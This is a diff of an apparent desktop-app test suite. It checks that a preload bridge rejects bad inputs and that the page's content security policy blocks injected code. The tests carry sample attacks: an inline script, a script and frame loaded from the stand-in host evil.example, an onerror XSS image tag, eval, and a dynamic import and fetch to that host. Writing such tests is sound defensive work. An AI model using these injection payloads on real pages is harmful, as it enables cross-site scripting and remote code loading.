@@ -55,6 +55,7 @@ test('the preload adds named functions only', async ({ shell }) => {
     openLogs: 'function',
     startsAtLogin: 'function',
     setStartAtLogin: 'function',
+    setAppearance: 'function',
     onMenu: 'function',
     platform: 'string',
   });
@@ -66,9 +67,17 @@ test('the preload adds named functions only', async ({ shell }) => {
       await ask('choosePaths', 'everything'),
       await ask('reveal', '../etc'),
       await ask('setStartAtLogin', 'yes'),
+      await ask('setAppearance', { language: 'xx' }),
+      await ask('setAppearance', { language: 'de', ground: 'url(x)' }),
     ];
   });
-  expect(answers).toEqual(['Error: bad-input', 'false', 'Error: bad-input']);
+  expect(answers).toEqual([
+    'Error: bad-input',
+    'false',
+    'Error: bad-input',
+    'Error: bad-input',
+    'Error: bad-input',
+  ]);
 });
 
 test('scripts that did not come with the page do not run', async ({ shell }) => {
@@ -83,32 +92,66 @@ test('scripts that did not come with the page do not run', async ({ shell }) => 
     document.addEventListener('securitypolicyviolation', (event) =>
       noted.push(`blocked ${event.violatedDirective}`),
     );
-    const inline = document.createElement('script');
-    inline.textContent = 'window.noted.push("inline ran")';
-    document.body.append(inline);
-    const remote = document.createElement('script');
-    remote.src = 'https://evil.example/x.js';
-    document.body.append(remote);
-    const box = document.createElement('div');
-    box.innerHTML =
-      '<img src="nowhere" onerror="window.noted.push(\'handler ran\')"><iframe src="https://evil.example/"></iframe>';
-    document.body.append(box);
-    // Not at once: what a debugger evaluates may evaluate.
-    setTimeout(() => {
+    const attempt = (what: string, act: () => void): void => {
       try {
-        // oxlint-disable-next-line no-eval
-        eval('window.noted.push("eval ran")');
+        act();
       } catch {
-        noted.push('eval threw');
+        noted.push(`${what} threw`);
       }
+    };
+    attempt('inline script', () => {
+      const inline = document.createElement('script');
+      inline.textContent = 'window.noted.push("inline ran")';
+      document.body.append(inline);
     });
+    attempt('remote script', () => {
+      const remote = document.createElement('script');
+      remote.src = 'https://evil.example/x.js';
+      document.body.append(remote);
+    });
+    attempt('markup', () => {
+      const box = document.createElement('div');
+      box.innerHTML = '<img src="nowhere" onerror="window.noted.push(\'handler ran\')">';
+      document.body.append(box);
+    });
+    // The empty text is the one markup that is let through, and makes nothing.
+    attempt('empty markup', () => {
+      document.createElement('div').innerHTML = '';
+    });
+    attempt('another policy', () => {
+      const { trustedTypes } = window as unknown as {
+        readonly trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      trustedTypes.createPolicy('mine', { createHTML: (text: string) => text });
+    });
+    const frame = document.createElement('iframe');
+    frame.src = 'https://evil.example/';
+    document.body.append(frame);
+    // Not at once: what a debugger evaluates may evaluate.
+    // oxlint-disable-next-line no-eval
+    setTimeout(() => attempt('eval', () => void eval('window.noted.push("eval ran")')));
+    const elsewhere = 'https://evil.example/y.js';
+    await import(elsewhere).catch(() => noted.push('import failed'));
     await fetch('https://evil.example/').catch(() => noted.push('fetch failed'));
     await new Promise((resolve) => setTimeout(resolve, 500));
     return noted;
   });
   expect(ran.filter((one) => one.endsWith(' ran'))).toEqual([]);
-  expect(ran).toEqual(expect.arrayContaining(['eval threw', 'fetch failed']));
-  expect(ran.join()).toMatch(/blocked script-src.*blocked frame-src|blocked frame-src.*blocked script-src/);
+  expect(ran).toEqual(
+    expect.arrayContaining([
+      'inline script threw',
+      'remote script threw',
+      'markup threw',
+      'another policy threw',
+      'eval threw',
+      'import failed',
+      'fetch failed',
+      'blocked require-trusted-types-for',
+      'blocked frame-src',
+    ]),
+  );
+  expect(ran).not.toContain('empty markup threw');
+  expect(ran.join()).toMatch(/blocked script-src/);
 });
 
 test('nothing but the files of the page is served', async ({ shell }) => {
